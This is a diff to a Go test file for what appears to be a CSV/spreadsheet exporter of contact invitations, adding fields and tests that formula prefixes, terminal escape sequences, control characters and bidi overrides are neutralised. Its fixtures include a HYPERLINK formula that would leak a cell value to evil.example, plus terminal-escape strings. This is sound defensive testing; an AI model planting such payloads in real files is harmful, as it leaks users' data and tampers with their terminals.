@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"errors"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -11,6 +12,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 	"github.com/unvite/unvite"
+	"github.com/unvite/unvite/printable"
 	"github.com/unvite/unvite/spreadsheet"
 )
 
@@ -35,6 +37,8 @@ func invitations() []*unvite.Invitation {
 			Source:        unvite.SourceSync,
 			Tags:          []string{"vip", "+conference", "two words"},
 			Protected:     true,
+			FollowUpOn:    time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC),
+			Comment:       "=call back, met at Slush",
 		},
 		{
 			ID:           2,
@@ -83,15 +87,15 @@ func TestCells(t *testing.T) {
 		"2026-08-01T07:15:00Z", "false", "111", "true",
 		`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
 		"2026-11-01T10:00:00Z", "2026-11-22T10:00:00Z", "sync", "vip;+conference;two words", "true",
-		"7203310099887766554",
+		"7203310099887766554", "2026-12-01", "'=call back, met at Slush",
 	}, rows[1])
 	require.Equal(t, []string{
 		"2", "pending", "'@handle", "'-10% churn", "'\tTabbed", "",
 		"2026-11-06T00:00:00Z", "true", "14", "true",
 		"Hi Ann,\nmet you at the meetup.\nShall we connect?", // encoding/csv reads \r\n inside quotes as \n
-		"", "", "export", "", "false", "",
+		"", "", "export", "", "false", "", "", "",
 	}, rows[2])
-	require.Equal(t, "'\rcarriage first", rows[3][10])
+	require.Equal(t, "␍carriage first", rows[3][10], "a lone CR is shown, not kept")
 	require.Equal(t, "", rows[3][11], "no status_since")
 }
 
@@ -151,7 +155,37 @@ func TestRoundTrip(t *testing.T) {
 		require.Equal(t, want.Tags, tags)
 		require.Equal(t, strconv.FormatBool(want.Protected), cell("protected"))
 		require.Equal(t, want.LinkedInID, cell("linkedin_id"))
+		require.Equal(t, want.Comment, cell("comment"))
+		if want.FollowUpOn.IsZero() {
+			require.Empty(t, cell("follow_up_on"))
+		} else {
+			require.Equal(t, want.FollowUpOn.Format("2006-01-02"), cell("follow_up_on"))
+		}
 	}
+}
+
+// A crafted export cannot put terminal escapes, other control characters
+// or bidi overrides into a CSV file; the rest of the text stays.
+func TestNoControlCharacters(t *testing.T) {
+	t.Parallel()
+	inv := &unvite.Invitation{
+		ID: 9, Direction: unvite.Sent, Status: unvite.StatusPending, Source: unvite.SourceExport,
+		Invitee: unvite.Person{Name: "Bad\x1b]0;pwned\x07Name", Company: "\u202eevil\u202c Corp", Headline: "C1 \u009b31m"},
+		Note:    "line one\nline two\x1b[2J\x00", Comment: "\u2066isolated\u2069 Zoë 山田 👍🏽",
+	}
+	var b bytes.Buffer
+	write(t, spreadsheet.NewWriter(&b), []*unvite.Invitation{inv})
+	for _, r := range b.String() {
+		require.False(t, r != '\n' && printable.Unsafe(r), "raw %U in %q", r, b.String())
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	require.NoError(t, err)
+	cell := func(name string) string { return rows[1][slices.Index(spreadsheet.Header, name)] }
+	require.Equal(t, "Bad␛]0;pwned␇Name", cell("name"))
+	require.Equal(t, "�evil� Corp", cell("company"))
+	require.Equal(t, "C1 �31m", cell("headline"))
+	require.Equal(t, "line one\nline two␛[2J␀", cell("note"))
+	require.Equal(t, "�isolated� Zoë 山田 👍🏽", cell("comment"))
 }
 
 func TestEscape(t *testing.T) {
@@ -163,7 +197,8 @@ func TestEscape(t *testing.T) {
 		"-2":              "'-2",
 		"@SUM(A1)":        "'@SUM(A1)",
 		"\tx":             "'\tx",
-		"\rx":             "'\rx",
+		"\rx":             "␍x",
+		"\x1b[2J":         "␛[2J",
 		"Ann":             "Ann",
 		"a=b":             "a=b",
 		" =not a formula": " =not a formula",
